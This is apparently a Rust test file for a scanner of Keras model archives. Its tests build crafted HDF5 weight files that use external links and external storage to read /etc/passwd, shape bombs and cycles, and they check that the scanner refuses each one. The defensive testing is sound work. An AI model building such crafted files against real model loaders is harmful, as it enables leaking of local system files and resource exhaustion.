            let mut bytes = vec![0u8; 96 + 12];
            bytes.extend_from_slice(tail);
            (objects, bytes)
        })
    }

    /// A local heap at `addr` whose data segment (right after its 32-byte
    /// header) holds `names`.
    pub fn local_heap(addr: u64, names: &[u8]) -> Vec<u8> {
        let mut h = b"HEAP".to_vec();
        h.extend_from_slice(&[0, 0, 0, 0]);
        h.extend_from_slice(&(names.len() as u64).to_le_bytes());
        h.extend_from_slice(&1u64.to_le_bytes()); // H5HL_FREE_NULL: no free list
        h.extend_from_slice(&(addr + 32).to_le_bytes());
        h.extend_from_slice(names);
        h
    }

    pub fn benign_kernel(data: u64) -> Vec<Msg> {
        vec![dataspace(&[8, 3]), float32(), contiguous(data, 96)]
    }
}

/// The Dense(8 -> 3) config that `h5w::dense_file` matches.
fn dense_config() -> Vec<u8> {
    let config = json!({"module": "keras", "class_name": "Sequential", "registered_name": null,
        "config": {"name": "m", "trainable": true, "layers": [
            {"module": "keras.layers", "class_name": "InputLayer", "registered_name": null,
             "config": {"batch_shape": [null, 8], "dtype": "float32", "name": "in"}},
            {"module": "keras.layers", "class_name": "Dense", "registered_name": null,
             "config": {"name": "d", "units": 3, "activation": "softmax"},
             "build_config": {"input_shape": [null, 8]}}]}});
    serde_json::to_vec(&config).unwrap()
}

fn inspect(h5: &[u8]) -> crate::Result<WeightsReport> {
    let scan = scan_config(&dense_config(), &limits()).unwrap();
    assert!(scan.accepted(), "{:?}", scan.findings);
    inspect_weights(h5, h5.len() as u64, &scan, &limits())
}

fn h5_error(h5: &[u8]) -> (&'static str, String) {
    let e = inspect(h5).unwrap_err();
    let f = e.finding().unwrap();
    (f.code, hdf5_path_of(f).to_owned())
}

#[test]
fn the_test_writer_makes_a_file_the_walker_accepts() {
    let h5 = h5w::dense_file(vec![], h5w::benign_kernel);
    let report = inspect(&h5).unwrap();
    assert!(report.accepted(), "{:?}", report.findings);
    assert_eq!(report.param_count, 8 * 3 + 3);
    // To check the writer against h5py: set this, then open the files.
    if let Some(dir) = std::env::var_os("VERITRAIN_DUMP_TEST_H5") {
        let dir = PathBuf::from(dir);
        std::fs::write(dir.join("benign.h5"), &h5).unwrap();
        let external = h5w::dense_file(
            vec![h5w::link("leak", 64, 0, b"\0/etc/passwd\0/data\0")],
            h5w::benign_kernel,
        );
        std::fs::write(dir.join("external_link.h5"), external).unwrap();
        let efl = external_storage_file();
        std::fs::write(dir.join("external_storage.h5"), efl).unwrap();
    }
}

/// The Dense file whose kernel's bytes are declared to live in
/// `/etc/passwd` (an External Data Files message and its name heap).
fn external_storage_file() -> Vec<u8> {
    // The data address does not depend on the message contents' values,
    // so compute it from a probe file.
    let probe = h5w::dense_file(vec![], |data| {
        let mut m = h5w::benign_kernel(data);
        m.push(external_file_list(data));
        m
    });
    let data = probe.len() as u64 - 108;
    let heap = h5w::local_heap(data + 108, b"\0\0\0\0\0\0\0\0/etc/passwd\0\0\0\0\0");
    h5w::dense_file_with_tail(
        vec![],
        |d| {
            let mut m = h5w::benign_kernel(d);
            m.push(external_file_list(d + 108));
            m
        },
        &heap,
    )
}

/// An External Data Files message whose heap (at `heap`) names /etc/passwd
/// (at offset 8 of the heap's data).
fn external_file_list(heap: u64) -> h5w::Msg {
    let mut efl = vec![1, 0, 0, 0, 1, 0, 1, 0];
    efl.extend_from_slice(&heap.to_le_bytes());
    efl.extend_from_slice(&8u64.to_le_bytes()); // name offset in the heap
    efl.extend_from_slice(&0u64.to_le_bytes()); // offset in the file
    efl.extend_from_slice(&96u64.to_le_bytes()); // size
    (0x07, efl)
}

#[test]
fn hdf5_external_links_are_refused() {
    // CVE-2026-1669: an external link makes HDF5 open another file.
    let h5 = h5w::dense_file(
        vec![h5w::link("leak", 64, 0, b"\0/etc/passwd\0/data\0")],
        h5w::benign_kernel,
    );
    assert_eq!(h5_error(&h5), (codes::H5_EXTERNAL_LINK, "/".to_owned()));
    let h5 = h5w::dense_file(
        vec![h5w::link("alias", 1, 0, b"/layers\0")],
        h5w::benign_kernel,
    );
    assert_eq!(h5_error(&h5).0, codes::H5_SOFT_LINK);
}

#[test]
fn hdf5_external_and_virtual_storage_is_refused() {
    // CVE-2026-1669: External Data Files message: the kernel's bytes are
    // read from /etc/passwd at load time.
    let h5 = external_storage_file();
    assert_eq!(
        h5_error(&h5),
        (
            codes::H5_EXTERNAL_STORAGE,
            "/layers/dense/vars/0".to_owned()
        )
    );
    // Virtual dataset layout (class 3).
    let h5 = h5w::dense_file(vec![], |_| {
        let mut layout = vec![4, 3];
        layout.extend_from_slice(&0u64.to_le_bytes());
        layout.extend_from_slice(&0u32.to_le_bytes());
        vec![h5w::dataspace(&[8, 3]), h5w::float32(), (0x08, layout)]
    });
    assert_eq!(h5_error(&h5).0, codes::H5_VIRTUAL_DATASET);
}

#[test]
fn hdf5_shape_bombs_are_refused() {
    // CVE-2026-0897: a huge declared shape that stores nothing.
    let h5 = h5w::dense_file(vec![], |_| {
        vec![
            h5w::dataspace(&[1 << 20, 1 << 20]),
            h5w::float32(),
            h5w::contiguous(u64::MAX, 0),
        ]
    });
    assert_eq!(
        h5_error(&h5),
        (
            codes::H5_SHAPE_EXCEEDS_SIZE,
            "/layers/dense/vars/0".to_owned()
        )
    );
    // Small enough for the limit, but nothing stored.
    let h5 = h5w::dense_file(vec![], |_| {
        vec![
            h5w::dataspace(&[8, 3]),
            h5w::float32(),
            h5w::contiguous(u64::MAX, 0),
        ]
    });
    assert_eq!(h5_error(&h5).0, codes::H5_SHAPE_EXCEEDS_SIZE);
    // Declares more than it stores.
    let h5 = h5w::dense_file(vec![], |data| {
        vec![
            h5w::dataspace(&[8, 4]),
            h5w::float32(),
            h5w::contiguous(data, 96),
        ]
    });
    assert_eq!(h5_error(&h5).0, codes::H5_SHAPE_EXCEEDS_SIZE);
    // Stored bytes past the end of the member.
    let h5 = h5w::dense_file(vec![], |data| {
        vec![
            h5w::dataspace(&[8, 3]),
            h5w::float32(),
            h5w::contiguous(data + 1_000_000, 96),
        ]
    });
    assert_eq!(h5_error(&h5).0, codes::H5_SHAPE_EXCEEDS_SIZE);
    // A product that overflows u64.
    let h5 = h5w::dense_file(vec![], |data| {
        vec![
            h5w::dataspace(&[u64::MAX, 3]),
            h5w::float32(),
            h5w::contiguous(data, 96),
        ]
    });
    assert_eq!(h5_error(&h5).0, codes::H5_SHAPE_EXCEEDS_SIZE);
}

#[test]
fn hdf5_overlaps_cycles_and_foreign_structures_are_refused() {
    // Kernel and bias share bytes.
    let h5 = h5w::dense_file(vec![], |data| {
        vec![
            h5w::dataspace(&[8, 3]),
            h5w::float32(),
            h5w::contiguous(data + 8, 96),
        ]
    });
    assert_eq!(h5_error(&h5).0, codes::H5_OVERLAPPING_DATA);
    // A link back to the root: a cycle.
    let h5 = h5w::file(|a, _| {
        (
            vec![h5w::ohdr(&[
                h5w::link_info(),
                h5w::group_info(),
                h5w::link("loop", 0, a[0], &[]),
            ])],
            vec![],
        )
    });
    assert_eq!(h5_error(&h5), (codes::H5_CYCLE, "/loop".to_owned()));
    // Chunked layout (compression lives there).
    let h5 = h5w::dense_file(vec![], |_| {
        vec![
            h5w::dataspace(&[8, 3]),
            h5w::float32(),
            (0x08, vec![3, 2, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
        ]
    });
    assert_eq!(h5_error(&h5).0, codes::H5_UNSUPPORTED_STRUCTURE);
    // Big-endian floats.
    let h5 = h5w::dense_file(vec![], |data| {
        let (_, mut t) = h5w::float32();
        t[1] |= 0x01;
        vec![
            h5w::dataspace(&[8, 3]),
            (0x03, t),
            h5w::contiguous(data, 96),
        ]
    });
    assert_eq!(h5_error(&h5).0, codes::H5_UNSUPPORTED_DTYPE);
    // An object header message type h5py does not write for weights.
    let h5 = h5w::dense_file(vec![(0x0D, b"comment\0".to_vec())], h5w::benign_kernel);
    assert_eq!(h5_error(&h5).0, codes::H5_UNSUPPORTED_STRUCTURE);
    // A link to an address outside the file.
    let h5 = h5w::dense_file(vec![h5w::link("far", 0, 1 << 40, &[])], h5w::benign_kernel);
    assert_eq!(h5_error(&h5).0, codes::H5_INVALID);
    // A flipped bit in an object header: checksum.
    let mut h5 = h5w::dense_file(vec![], h5w::benign_kernel);
    h5[60] ^= 0x40;
    assert_eq!(h5_error(&h5).0, codes::H5_CHECKSUM);
    // Truncated.
    let h5 = h5w::dense_file(vec![], h5w::benign_kernel);
    assert_eq!(h5_error(&h5[..h5.len() - 1]).0, codes::H5_INVALID);
}

#[test]
fn weights_that_do_not_match_the_config_are_refused() {
    // Kernel (8, 4) where the config implies (8, 3).
    let h5 = h5w::file(|a, data| {
        let objects = vec![
            h5w::ohdr(&[
                h5w::link_info(),
                h5w::group_info(),
                h5w::link("layers", 0, a[1], &[]),
            ]),
            h5w::ohdr(&[
                h5w::link_info(),
                h5w::group_info(),
                h5w::link("dense", 0, a[2], &[]),
            ]),
            h5w::ohdr(&[
                h5w::link_info(),
                h5w::group_info(),
                h5w::link("vars", 0, a[3], &[]),
            ]),
            h5w::ohdr(&[
                h5w::link_info(),
                h5w::group_info(),
                h5w::link("0", 0, a[4], &[]),
                h5w::link("1", 0, a[5], &[]),
            ]),
            h5w::ohdr(&[
                h5w::dataspace(&[8, 4]),
                h5w::float32(),
                h5w::contiguous(data, 128),
            ]),
            h5w::ohdr(&[
                h5w::dataspace(&[3]),
                h5w::float32(),
                h5w::contiguous(data + 128, 12),
            ]),
        ];
        (objects, vec![0u8; 140])
    });
    let report = inspect(&h5).unwrap();
    assert_eq!(codes_of(&report.findings), vec![codes::WEIGHTS_MISMATCH]);
    assert_eq!(hdf5_path_of(&report.findings[0]), "/layers/dense/vars");
    // An extra dataset that no layer owns, next to the benign ones.
    let h5 = h5w::file(|a, data| {
        let objects = vec![
            h5w::ohdr(&[
                h5w::link_info(),
                h5w::group_info(),
                h5w::link("layers", 0, a[1], &[]),
                h5w::link("stash", 0, a[6], &[]),
            ]),
            h5w::ohdr(&[
                h5w::link_info(),
                h5w::group_info(),
                h5w::link("dense", 0, a[2], &[]),
            ]),
            h5w::ohdr(&[
                h5w::link_info(),
                h5w::group_info(),
                h5w::link("vars", 0, a[3], &[]),
            ]),
            h5w::ohdr(&[
                h5w::link_info(),
                h5w::group_info(),
                h5w::link("0", 0, a[4], &[]),
                h5w::link("1", 0, a[5], &[]),
            ]),
            h5w::ohdr(&h5w::benign_kernel(data)),
            h5w::ohdr(&[
                h5w::dataspace(&[3]),
                h5w::float32(),
                h5w::contiguous(data + 96, 12),
            ]),
            h5w::ohdr(&[
                h5w::dataspace(&[4]),
                h5w::float32(),
                h5w::contiguous(data + 108, 16),
            ]),
        ];
        (objects, vec![0u8; 124])
    });
    let report = inspect(&h5).unwrap();
    assert_eq!(codes_of(&report.findings), vec![codes::WEIGHTS_MISMATCH]);
    assert_eq!(hdf5_path_of(&report.findings[0]), "/stash");
}

/// Offsets of `needle` in `hay`.
fn find_all(hay: &[u8], needle: &[u8]) -> Vec<usize> {
    hay.windows(needle.len())
        .enumerate()
        .filter(|(_, w)| *w == needle)
        .map(|(i, _)| i)
        .collect()
}

#[test]
fn patched_h5py_files_are_refused() {
    let archive = fixture("ok_mlp_sequential.keras");
    let h5 = archive.0["model.weights.h5"].clone();
    let scan = scan_config(&archive.0["config.json"], &limits()).unwrap();
    let inspect_real = |bytes: &[u8]| inspect_weights(bytes, bytes.len() as u64, &scan, &limits());
    assert!(inspect_real(&h5).unwrap().accepted());

    // The dataspace of the (8, 16) kernel: version 1, rank 2, then dims.
    let mut dims = Vec::new();
    dims.extend_from_slice(&8u64.to_le_bytes());
    dims.extend_from_slice(&16u64.to_le_bytes());
    let at = find_all(&h5, &dims);
    assert!(!at.is_empty());
    // Shape bomb: the kernel now declares 2^40 x 16 floats.
    let mut bomb = h5.clone();
    for &i in &at {
        bomb[i..i + 8].copy_from_slice(&(1u64 << 40).to_le_bytes());
    }
    let e = inspect_real(&bomb).unwrap_err();
    assert_eq!(e.code(), codes::H5_SHAPE_EXCEEDS_SIZE);
    assert_eq!(hdf5_path_of(e.finding().unwrap()), "/layers/dense/vars/0");

    // A soft link in a symbol table entry (cache type 2).
    let mut soft = h5.clone();
    let snod = find_all(&h5, b"SNOD")[0];
    soft[snod + 8 + 16] = 2;
    assert_eq!(inspect_real(&soft).unwrap_err().code(), codes::H5_SOFT_LINK);

    // The superblock names a file driver (multi/family: other files).
    let mut driver = h5.clone();
    driver[0x30..0x38].copy_from_slice(&0x60u64.to_le_bytes());
    assert_eq!(
        inspect_real(&driver).unwrap_err().code(),
        codes::H5_EXTERNAL_STORAGE
    );

    // A user block before the superblock.
    let mut shifted = vec![0u8; 512];
    shifted.extend_from_slice(&h5);
    assert_eq!(
        inspect_real(&shifted).unwrap_err().code(),
        codes::H5_INVALID
    );

    // Truncation and a length mismatch with the archive's size.
    assert!(inspect_real(&h5[..h5.len() / 2]).is_err());
    assert_eq!(
        inspect_weights(&h5, h5.len() as u64 + 1, &scan, &limits())
            .unwrap_err()
            .code(),
        codes::H5_INVALID
    );
}

#[test]
fn weights_of_another_model_are_refused() {
    // The CNN's config with the MLP's weights: names and shapes disagree.
    let mut archive = fixture("ok_cnn_functional.keras");
    archive.0.insert(
        "model.weights.h5".into(),
        fixture("ok_mlp_sequential.keras").0["model.weights.h5"].clone(),
    );
    let verdict = scan_keras_archive(&mut archive, &limits());
    assert!(!verdict.accepted);
    assert!(
        verdict
            .findings
            .iter()
            .all(|f| f.code == codes::WEIGHTS_MISMATCH),
        "{:#?}",
        verdict.findings
    );
    // A layer renamed in the config no longer matches its group's name.
    let mut archive = fixture("ok_mlp_sequential.keras");
    let mut config = config_of("ok_mlp_sequential.keras");
    config["config"]["layers"][1]["config"]["name"] = json!("renamed");
    archive
        .0
        .insert("config.json".into(), serde_json::to_vec(&config).unwrap());
    let verdict = scan_keras_archive(&mut archive, &limits());
    assert_eq!(codes_of(&verdict.findings), vec![codes::WEIGHTS_MISMATCH]);
    assert_eq!(hdf5_path_of(&verdict.findings[0]), "/layers/dense/vars");
    // More units in the config than in the weights.
    let mut archive = fixture("ok_mlp_sequential.keras");
    let mut config = config_of("ok_mlp_sequential.keras");
    config["config"]["layers"][1]["config"]["units"] = json!(17);
    archive
        .0
        .insert("config.json".into(), serde_json::to_vec(&config).unwrap());
    let verdict = scan_keras_archive(&mut archive, &limits());
    assert!(
        codes_of(&verdict.findings)
            .iter()
            .all(|c| *c == codes::WEIGHTS_MISMATCH)
    );
    assert!(!verdict.accepted);
}

// ---------------------------------------------------------------------------
// Archive members and file classification.

#[test]
fn only_the_members_keras_writes_are_accepted() {
    let mut archive = fixture("ok_mlp_sequential.keras");
    archive.0.insert("evil.py".into(), b"import os".to_vec());
    archive.0.insert("model.weights.npz".into(), b"PK".to_vec());
    archive
        .0
        .insert("assets/layers/dense/vocabulary.txt".into(), b"a".to_vec());
    let verdict = scan_keras_archive(&mut archive, &limits());
    assert_eq!(
        codes_of(&verdict.findings),
        vec![codes::UNEXPECTED_MEMBER; 3]
    );
    let mut archive = fixture("ok_mlp_sequential.keras");
    archive.0.remove("model.weights.h5");
    let verdict = scan_keras_archive(&mut archive, &limits());
    assert_eq!(codes_of(&verdict.findings), vec![codes::MISSING_MEMBER]);
    // Without weights, the count comes from the config alone.
    assert_eq!(verdict.param_count, Some(299));
    assert_eq!(
        verdict.param_count_source,
        Some(verdict::ParamCountSource::ConfigOnly)
    );
    // The lookup layer's vocabulary is the one asset allowed; it must be text.
    let mut archive = fixture("ok_string_lookup.keras");
    assert!(
        archive
            .0
            .contains_key("assets/layers/string_lookup/vocabulary.txt")
    );
    archive.0.insert(
        "assets/layers/string_lookup/vocabulary.txt".into(),
        b"\xff\0".to_vec(),
    );
    let verdict = scan_keras_archive(&mut archive, &limits());
    assert_eq!(codes_of(&verdict.findings), vec![codes::ASSET_INVALID]);
    // Members over the limit are refused before they are read.
    let mut archive = fixture("ok_mlp_sequential.keras");
    archive
        .0
        .insert("config.json".into(), vec![b' '; 300 << 10]);
    let verdict = scan_keras_archive(&mut archive, &limits());
    assert!(codes_of(&verdict.findings).contains(&codes::MEMBER_TOO_LARGE));
}

#[test]
fn non_keras_v3_files_are_refused_with_their_own_code() {
    let h5 = fixture("ok_mlp_sequential.keras").0["model.weights.h5"].clone();
    let code = |bytes: &[u8], name: &str| classify_model_file(bytes, name).map_err(|e| e.code());
    // CVE-2025-9905: a legacy .h5 model, whatever it is called.
    assert_eq!(code(&h5[..64], "model.keras"), Err(codes::LEGACY_H5));
    assert_eq!(code(b"PK\x03\x04....", "model.h5"), Err(codes::LEGACY_H5));
    let mut user_block = vec![0u8; 512];
    user_block.extend_from_slice(&h5[..64]);
    assert_eq!(code(&user_block, "model.keras"), Err(codes::LEGACY_H5));
    // Pickles (protocol 2 to 5).
    assert_eq!(
        code(b"\x80\x04\x95\x10\x00\x00\x00", "model.keras"),
        Err(codes::PICKLE)
    );
    assert_eq!(code(b"(dp0\n", "model.pkl"), Err(codes::PICKLE));
    // SavedModel.
    assert_eq!(
        code(b"\x08\x01\x12\x8c\x01\n", "model.keras"),
        Err(codes::SAVEDMODEL)
    );
    assert_eq!(code(b"", "export/saved_model.pb"), Err(codes::SAVEDMODEL));
    assert_eq!(code(b"", "export/"), Err(codes::SAVEDMODEL));
    // Anything else.
    assert_eq!(
        code(b"{\"class_name\": ...", "config.json"),
        Err(codes::NOT_KERAS_V3)
    );
    assert_eq!(code(b"", "model.keras"), Err(codes::NOT_KERAS_V3));
    assert_eq!(code(b"PK\x05\x06", "model.keras"), Err(codes::NOT_KERAS_V3));
    // A .keras ZIP.
    let zip = std::fs::read(fixture_dir().join("ok_mlp_sequential.keras")).unwrap();
    assert_eq!(code(&zip[..64], "model.keras"), Ok(()));
    // A refusal before the scan is still a verdict, with its finding.
    let e = classify_model_file(&h5[..64], "model.h5").unwrap_err();
    let verdict = KerasVerdict::refused(e.finding().unwrap().clone());
    assert!(!verdict.accepted);
    let text = serde_json::to_value(&verdict).unwrap();
    assert_eq!(text["findings"][0]["code"], "keras.legacy_h5");
    assert_eq!(text["findings"][0]["location"]["kind"], "entry");
    assert_eq!(text["allowlist_version"], ALLOWLIST_VERSION);
}

#[test]
fn the_allowlist_dump_is_in_sync_with_the_committed_copy() {
    // `check_allowlist.py` resolves every name in this file with Keras.
    let path = fixture_dir().join("allowlist.json");
    let dump = serde_json::to_string_pretty(&allowlist::dump()).unwrap() + "\n";
    if std::env::var_os("VERITRAIN_UPDATE_FIXTURES").is_some() {
        std::fs::write(&path, &dump).unwrap();
    }
    let committed = std::fs::read_to_string(&path).unwrap_or_default();
    assert_eq!(
        committed, dump,
        "run with VERITRAIN_UPDATE_FIXTURES=1 and re-run check_allowlist.py"
    );
}

// ---------------------------------------------------------------------------
// No panic on arbitrary input.

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn config_scan_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
        let _ = scan_config(&bytes, &limits());
        let _ = scan_metadata(&bytes, &limits());
        let _ = classify_model_file(&bytes, "m.keras");
    }

    #[test]
    fn hdf5_walk_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..4096)) {
        let _ = parse_weights_structure(&bytes, "model.weights.h5", &limits());
    }

    #[test]
    fn mutated_real_weights_never_panic(flips in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..16)) {
        let archive = fixture("ok_text_lstm.keras");
        let mut h5 = archive.0["model.weights.h5"].clone();
        for (i, b) in flips {
            let at = i.index(h5.len());
            h5[at] ^= b;
        }
        let scan = scan_config(&archive.0["config.json"], &limits()).unwrap();
        let _ = inspect_weights(&h5, h5.len() as u64, &scan, &limits());
    }

    #[test]
    fn mutated_real_configs_never_panic(flips in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..8)) {
        let mut config = fixture("ok_cnn_functional.keras").0["config.json"].clone();
        for (i, b) in flips {
            let at = i.index(config.len());
            config[at] = b;
        }
        let _ = scan_config(&config, &limits());
    }
}

#[test]
fn inputs_and_outputs_carry_names_dtypes_and_shapes() {
    use super::config::TensorSummary;
    let t = |name: &str, dtype: &str, shape: Option<Vec<Option<u64>>>| TensorSummary {
        name: name.to_owned(),
        dtype: Some(dtype.to_owned()),
        shape,
    };
    let io = |file: &str| {
        let m = scan_keras_archive(&mut fixture(file), &limits())
            .model
            .unwrap();
        (m.inputs, m.outputs)
    };
    // Functional: output_layers name the Dense layer; its shape is its
    // input's with the last dimension set to units.
    assert_eq!(
        io("ok_cnn_functional.keras"),
        (
            vec![t(
                "image",
                "float32",
                Some(vec![None, Some(12), Some(12), Some(3)])
            )],
            vec![t("probs", "float32", Some(vec![None, Some(5)]))]
        )
    );
    // Sequential: the last layer.
    assert_eq!(
        io("ok_mlp_sequential.keras"),
        (
            vec![t("input_layer", "float32", Some(vec![None, Some(8)]))],
            vec![t("dense_2", "float32", Some(vec![None, Some(3)]))]
        )
    );
    // Mixed precision: the Dense computes in float16; the final Activation
    // keeps its shape and computes in float32.
    let (_, outputs) = io("ok_mixed_precision.keras");
    assert_eq!(
        outputs,
        vec![t("activation_1", "float32", Some(vec![None, Some(3)]))]
    );
    // Two inputs, two outputs, in the config's order.
    let (inputs, outputs) = io("ok_multi_io.keras");
    let names = |v: &[TensorSummary]| v.iter().map(|t| t.name.clone()).collect::<Vec<_>>();
    assert_eq!(names(&outputs), ["o1", "o2"]);
    assert_eq!(inputs.len(), 2);
    assert_eq!(outputs[1].shape, Some(vec![None, Some(3)]));
}
